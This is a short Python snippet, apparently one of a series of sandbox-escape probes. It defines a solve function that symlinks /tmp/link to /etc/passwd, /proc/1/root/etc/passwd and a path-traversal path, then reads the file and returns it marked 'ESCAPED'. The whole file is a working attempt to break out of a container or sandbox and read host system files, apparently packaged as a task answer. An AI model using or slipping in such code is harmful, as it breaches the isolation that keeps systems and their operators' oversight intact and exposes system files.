# Tries: reach the host through links made in the private folder
# As: function
import os
def solve(x):
    for target in ('/etc/passwd', '/proc/1/root/etc/passwd', '/../etc/passwd'):
        try:
            os.symlink(target, '/tmp/link')
            return 'ESCAPED ' + open('/tmp/link').read(50)
        except OSError:
            continue
    return 'nothing'
